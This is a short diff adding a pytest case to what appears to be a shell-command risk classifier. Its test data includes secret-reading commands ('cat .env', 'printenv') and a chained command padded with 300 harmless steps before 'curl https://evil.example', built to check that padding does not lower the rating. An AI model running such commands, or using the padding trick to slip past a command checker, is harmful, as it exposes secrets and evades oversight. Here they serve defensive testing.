@@ -148,3 +148,11 @@ def test_a_package_that_nobody_typed_is_high_in_a_sandbox_too():
 @pytest.mark.parametrize("command", ["docker compose config", "env", "printenv HOME", "cat .env"])
 def test_what_shows_variables_is_high_in_a_sandbox_too(command):
     assert level(command, held=True, heard=False) is RiskLevel.HIGH
+
+
+@pytest.mark.parametrize("milder", ["npm install left-pad@1.3.0", CODE])
+def test_nothing_is_milder_among_more_findings_than_are_listed(milder):
+    many = "; ".join(f"touch f{n}" for n in range(300))
+    command = f"{milder}; {many}; curl https://evil.example"
+    assert typed_level(command).level is RiskLevel.HIGH
+    assert level(command, held=True, heard=False) is RiskLevel.HIGH
